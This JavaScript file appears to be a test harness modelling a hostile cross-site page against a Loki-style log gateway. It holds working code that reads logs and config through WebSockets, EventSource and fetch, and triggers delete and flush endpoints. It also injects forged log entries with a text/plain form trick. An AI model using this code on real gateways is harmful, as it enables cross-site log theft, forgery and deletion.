// What a page of another site tries on a gateway that its reader's browser reaches. Each attempt tells 'read', 'sent'
// (whatever came of it) or 'refused'.

/** All of them. `posts` and `forms` are paths that take POST, `changes` method and path of what takes PUT or DELETE. */
globalThis.attack = async (base, { query, posts, changes, forms }) => {
  const sockets = base.replace(/^http/, 'ws');
  const tail = `query=${encodeURIComponent(query)}&start=0`;
  const entry = `{"streams":[{"stream":{"app":"forged"},"values":[["${Date.now()}000000","x"]]}]}`;
  return {
    webSockets: await Promise.all(
      ['/loki/api/v1/tail', '/api/prom/tail'].map((path) => socket(`${sockets}${path}?${tail}`)),
    ),
    eventSources: await Promise.all(
      [`/loki/api/v1/tail?${tail}`, '/api/logs/stream?since=1h'].map((path) => events(`${base}${path}`)),
    ),
    reads: await Promise.all(
      [`/loki/api/v1/query_range?${tail}`, '/config', '/metrics'].map((path) => request(`${base}${path}`)),
    ),
    images: await Promise.all(['/flush', '/loki/api/v1/delete'].map((path) => image(`${base}${path}`))),
    posts: await Promise.all(
      posts.map((path) =>
        request(`${base}${path}?${tail}&log_level=debug`, { method: 'POST', mode: 'no-cors', body: entry }),
      ),
    ),
    changes: await Promise.all(
      changes.map(([method, path]) => request(`${base}${path}?${tail}&request_id=x`, { method })),
    ),
    forms: await Promise.all(forms.map((path) => form(`${base}${path}?${tail}&log_level=debug`, entry))),
  };
};

const request = (url, options) =>
  fetch(url, { credentials: options?.mode === 'no-cors' ? 'include' : 'omit', ...options }).then(
    ({ type }) => (type === 'opaque' ? 'sent' : 'read'),
    () => 'refused',
  );

const socket = (url) =>
  new Promise((resolve) => {
    const opened = new WebSocket(url);
    opened.onmessage = () => {
      resolve('read');
      opened.close();
    };
    opened.onerror = () => resolve('refused');
  });

const events = (url) =>
  new Promise((resolve) => {
    const source = new EventSource(url);
    const end = (result) => {
      source.close();
      resolve(result);
    };
    source.onopen = () => end('read');
    source.onerror = () => end('refused');
  });

const image = (url) =>
  new Promise((resolve) => {
    const element = document.createElement('img');
    element.onload = () => resolve('read');
    element.onerror = () => resolve('sent');
    element.src = url;
    document.documentElement.append(element);
  });

let frames = 0;
const form = (url, text) =>
  new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = `frame${frames++}`;
    document.documentElement.append(frame);
    const element = document.createElement('form');
    Object.assign(element, { action: url, method: 'POST', enctype: 'text/plain', target: frame.name });
    const field = document.createElement('input');
    // A form of plain text is "name=value": what is no JSON goes into one of its strings.
    Object.assign(field, { name: text.slice(0, -1), value: ',"":""}' });
    element.append(field);
    document.documentElement.append(element);
    frame.onload = () => resolve('sent');
    // Whoever took it and has nothing to show is not waited for.
    setTimeout(() => resolve('taken'), 10_000);
    element.submit();
  });
